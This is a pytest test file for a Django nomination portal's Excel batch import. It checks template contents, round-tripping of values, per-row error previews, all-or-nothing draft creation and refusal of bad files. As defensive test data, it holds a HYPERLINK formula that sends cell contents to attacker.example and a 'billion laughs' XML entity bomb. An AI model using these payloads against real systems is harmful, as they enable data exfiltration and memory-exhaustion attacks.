"""Batch import from Excel: the category's template, a filled one read back row by row, the preview
with every problem by row and column, and the drafts created all at once or not at all."""

import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from tests.campaigns.test_kinds import CASES
from tests.conftest import BEFORE_DEADLINE, category, valid_values
from tests.fixtures.pdfs import pdf_bytes
from tuixuan.campaigns import kinds
from tuixuan.campaigns.models import FieldSpec
from tuixuan.common.exceptions import Refused
from tuixuan.common.models import AuditEvent
from tuixuan.documents.batch import MAX_ROWS, NOTES, read_workbook, template_workbook
from tuixuan.documents.xlsx import summary_workbook
from tuixuan.nominations import services
from tuixuan.nominations.models import Nomination, Status

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"点击查看")'


def rows_token(preview) -> str:
    """The checked rows' token in the preview page's 确认导入 form, as a browser posts it."""
    return re.search(r'name="rows" value="([^"]+)"', preview.content.decode())[1]


def as_typed(cat, values) -> dict:
    """A nomination's values as a person types them into the template, by column label."""
    typed = {}
    for spec in cat.fields.all():
        kind = kinds.of(spec)
        clean = kind.clean_value(values.get(spec.key))
        if clean is not None:
            typed[spec.label] = kind.excel_input(clean)
    return typed


def filled(cat, rows, *, cells=None) -> SimpleUploadedFile:
    """The category's template with ``rows`` (each by column label) from row 2; ``cells`` sets
    single cells afterwards: {(row, label): (value, number_format)}."""
    book = load_workbook(io.BytesIO(template_workbook(cat)))
    sheet = book.worksheets[0]
    columns = {cell.value: cell.column for cell in sheet[1]}
    for number, row in enumerate(rows, start=2):
        for label, value in row.items():
            sheet.cell(row=number, column=columns[label], value=value)
    for (number, label), (value, number_format) in (cells or {}).items():
        cell = sheet.cell(row=number, column=columns[label], value=value)
        if number_format:
            cell.number_format = number_format
    buffer = io.BytesIO()
    book.save(buffer)
    return SimpleUploadedFile("填好的.xlsx", buffer.getvalue())


def batch_url(gx, unit):
    return reverse("documents:batch", args=[gx.key, unit.code])


def three_volunteers(gx):
    cat = category(gx, "volunteer")
    rows = []
    for name in ("李秀梅", "王建国", "覃小红"):
        rows.append(as_typed(cat, {**valid_values("volunteer"), "name": name}))
    return cat, rows


# The template ------------------------------------------------------------------------------------


def test_the_template_has_the_categorys_labels_a_choice_list_and_notes(portal, gx, unit):
    response = portal.get(
        reverse("documents:batch_template", args=[gx.key, unit.code, "volunteer"])
    )
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.content))
    sheet = book.worksheets[0]
    labels = [spec.label for spec in category(gx, "volunteer").fields.all()]
    assert [cell.value for cell in sheet[1]] == labels
    assert sheet.max_row == 1 or all(c.value is None for c in sheet[2])  # nothing to import yet
    gender = labels.index("性别") + 1
    lists = [v for v in sheet.data_validations.dataValidation if v.type == "list"]
    assert any(v.formula1 == '"男,女"' for v in lists)
    assert any(f"{chr(64 + gender)}2" in str(v.sqref) for v in lists)
    notes = book[str(NOTES)]
    listed = [row[0].value for row in notes.iter_rows()]
    assert set(labels) <= set(listed)


@pytest.mark.parametrize("case", CASES)
def test_every_kind_reads_back_what_it_types_into_a_cell(case):
    """Whatever a kind types into a template's cell, the reader gives back the same value."""
    kind_name, options, _raw, clean, _bad = CASES[case]
    kind = kinds.of(kinds.FieldDef("f", "栏目", kind_name, True, options))
    assert kind.clean_value(kind.from_excel(kind.excel_input(clean))) == clean


@pytest.mark.parametrize("key", ["volunteer", "organisation", "project", "service-point"])
def test_a_complete_nomination_typed_into_the_template_reads_back_unchanged(gx, key):
    """Every category of the real campaign file: addresses by parts, lists of rows with a
    registration column, choices, dates, percentages, through the workbook and back."""
    cat = category(gx, key)
    batch = read_workbook(cat, filled(cat, [as_typed(cat, valid_values(key))]))
    assert batch.ok, batch.errors
    expected, errors = kinds.clean_values(cat.fields.all(), valid_values(key))
    assert not errors
    assert batch.rows[0].values == expected
    assert batch.rows[0].number == 2


def test_excel_numbers_dates_and_percentages_are_read_as_excel_holds_them(gx):
    cat = category(gx, "organisation")
    row = as_typed(cat, valid_values("organisation"))
    cells = {
        (2, "成立时间"): (timezone.datetime(2018, 3, 15), "yyyy-mm-dd"),
        (2, "注册科技志愿者人数"): (120.0, None),
        (2, "经常参与科技志愿服务志愿者占组织中志愿者人数比例"): (0.75, "0%"),
        (2, "联系方式"): (13807710001, None),
    }
    batch = read_workbook(cat, filled(cat, [row], cells=cells))
    assert batch.ok, batch.errors
    values = batch.rows[0].values
    assert values["founded"] == "2018-03-15"
    assert values["registered_volunteers"] == 120
    assert values["regular_ratio"] == "75"
    assert values["phone"] == "13807710001"


# Upload, preview, create -------------------------------------------------------------------------


def test_a_good_batch_of_three_rows_makes_three_drafts(portal, gx, unit, member):
    cat, rows = three_volunteers(gx)
    preview = portal.post(
        batch_url(gx, unit), {"category": "volunteer", "workbook": filled(cat, rows)}
    )
    assert preview.status_code == 200
    page = preview.content.decode()
    assert "检查无误" in page and "李秀梅" in page and "覃小红" in page
    assert Nomination.objects.count() == 0  # the preview creates nothing
    token = rows_token(preview)
    response = portal.post(
        reverse("documents:batch_create", args=[gx.key, unit.code]), {"rows": token}
    )
    assert response.status_code == 302
    made = Nomination.objects.order_by("pk")
    assert [n.name for n in made] == ["李秀梅", "王建国", "覃小红"]
    assert {n.status for n in made} == {Status.DRAFT}
    assert made[1].values["birth"] == "1978-06"
    events = AuditEvent.objects.filter(action="nomination.batch")
    assert sorted(e.data["row"] for e in events) == [2, 3, 4]
    page = portal.get(response.url).content.decode()
    assert "已从Excel导入3份" in page


def test_a_bad_batch_lists_every_problem_by_row_and_column_and_creates_nothing(portal, gx, unit):
    cat, rows = three_volunteers(gx)
    rows[1]["出生年月"] = "七八年"
    rows[2]["联系方式"] = "12345"
    rows[2]["性别"] = "未知"
    response = portal.post(
        batch_url(gx, unit), {"category": "volunteer", "workbook": filled(cat, rows)}
    )
    assert response.status_code == 400
    page = response.content.decode()
    assert "第3行“出生年月”：应填写年月" in page
    assert "第4行“联系方式”：" in page
    assert "第4行“性别”：应从以下选项中选择" in page
    assert "未导入任何一行" in page
    assert "重新上传" in page
    assert 'name="rows"' not in page  # nothing to confirm
    assert Nomination.objects.count() == 0


def test_the_service_creates_all_rows_or_none(gx, unit, member):
    cat = category(gx, "volunteer")
    good = valid_values("volunteer")
    with pytest.raises(Refused) as refused:
        services.create_many(
            member,
            campaign=gx,
            category=cat,
            unit=unit,
            rows=[(2, good), (3, {**good, "activity_count": "很多"})],
            now=BEFORE_DEADLINE,
        )
    assert refused.value.errors == {
        "3.activity_count": "第3行“参加科技志愿服务活动次数”：应填写数字。"
    }
    assert Nomination.objects.count() == 0
    made = services.create_many(
        member, campaign=gx, category=cat, unit=unit, rows=[(2, good)] * 5, now=BEFORE_DEADLINE
    )
    assert len(made) == 5  # more than the quota: drafts hold no place


def test_a_tampered_or_foreign_confirmation_is_refused(portal, gx, unit):
    response = portal.post(
        reverse("documents:batch_create", args=[gx.key, unit.code]), {"rows": "abc:def"}
    )
    assert response.status_code == 400
    assert "预览已过期或已失效" in response.content.decode()
    assert Nomination.objects.count() == 0


def test_a_formula_cell_is_kept_as_its_text_and_exported_as_text(portal, gx, unit, member):
    cat, rows = three_volunteers(gx)
    rows = rows[:1]
    rows[0]["主要服务项目"] = FORMULA
    rows[0]["参加科技志愿服务活动次数"] = "=1+1"
    response = portal.post(
        batch_url(gx, unit), {"category": "volunteer", "workbook": filled(cat, rows)}
    )
    assert response.status_code == 400  # a formula is no number
    assert "第2行“参加科技志愿服务活动次数”：应填写数字。" in response.content.decode()
    rows[0]["参加科技志愿服务活动次数"] = 120
    preview = portal.post(
        batch_url(gx, unit), {"category": "volunteer", "workbook": filled(cat, rows)}
    )
    portal.post(
        reverse("documents:batch_create", args=[gx.key, unit.code]),
        {"rows": rows_token(preview)},
    )
    nomination = Nomination.objects.get()
    assert nomination.values["projects"] == FORMULA
    book = load_workbook(io.BytesIO(summary_workbook(gx, Nomination.objects.all())))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    assert FORMULA in {cell.value for cell in cells}
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("名单.csv", "姓名,性别\n李秀梅,女\n".encode()),
        ("扫描.xlsx", pdf_bytes()),
        ("压缩包.xlsx", None),  # a zip, but no workbook in it
    ],
)
def test_a_file_that_is_not_an_xlsx_workbook_is_refused_clearly(portal, gx, unit, name, content):
    if content is None:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("readme.txt", "hello")
        content = buffer.getvalue()
    response = portal.post(
        batch_url(gx, unit),
        {"category": "volunteer", "workbook": SimpleUploadedFile(name, content)},
    )
    assert response.status_code == 400
    assert "请上传用本系统下载的Excel模板填写的 .xlsx 文件" in response.content.decode()
    assert Nomination.objects.count() == 0


def test_another_categorys_workbook_and_too_many_rows_are_refused(gx):
    organisation = category(gx, "organisation")
    volunteer = category(gx, "volunteer")
    row = as_typed(organisation, valid_values("organisation"))
    with pytest.raises(Refused, match="不是“最美科技志愿者”的栏目"):
        read_workbook(volunteer, filled(organisation, [row]))
    many = [{"姓名": f"志愿者{n}"} for n in range(MAX_ROWS + 1)]
    with pytest.raises(Refused, match=f"每次最多导入{MAX_ROWS}行"):
        read_workbook(volunteer, filled(volunteer, many))


def test_only_the_units_people_reach_the_batch_pages(client, gx, unit, organiser):
    client.force_login(organiser)
    assert client.get(batch_url(gx, unit)).status_code == 404
    url = reverse("documents:batch_template", args=[gx.key, unit.code, "volunteer"])
    assert client.get(url).status_code == 404


def test_the_campaign_page_offers_the_batch_import(portal, gx, unit):
    page = portal.get(reverse("nominations:campaign", args=[gx.key, unit.code])).content.decode()
    assert batch_url(gx, unit) in page


def test_a_field_spec_has_a_kind_the_template_describes(gx):
    """Every kind of the campaign files is described in the template's notes."""
    from tuixuan.documents.batch import KIND_WORDS

    assert set(FieldSpec.objects.values_list("kind", flat=True)) <= set(KIND_WORDS)
    assert set(kinds.REGISTRY) <= set(KIND_WORDS)


def with_entity_bomb(upload) -> SimpleUploadedFile:
    """The workbook with its first sheet's XML made an entity-expansion bomb ("billion laughs"):
    a few hundred bytes that a naive XML parser expands to gigabytes in memory."""
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(
            f'<!ENTITY lol{n} "{f"&lol{n - 1};" if n > 1 else "&lol;" * 10}' + '">'
            if n == 1
            else f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">'
            for n in range(1, 10)
        )
        + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    source, out = zipfile.ZipFile(io.BytesIO(upload.read())), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = bomb.encode()
            target.writestr(item, data)
    return SimpleUploadedFile("炸弹.xlsx", out.getvalue())


def test_a_workbook_whose_xml_expands_entities_is_refused_not_expanded(portal, gx, unit):
    volunteer = category(gx, "volunteer")
    response = portal.post(
        batch_url(gx, unit),
        {"category": "volunteer", "workbook": with_entity_bomb(filled(volunteer, []))},
    )
    assert response.status_code == 400
    assert "请上传用本系统下载的Excel模板填写的 .xlsx 文件" in response.content.decode()
    assert Nomination.objects.count() == 0
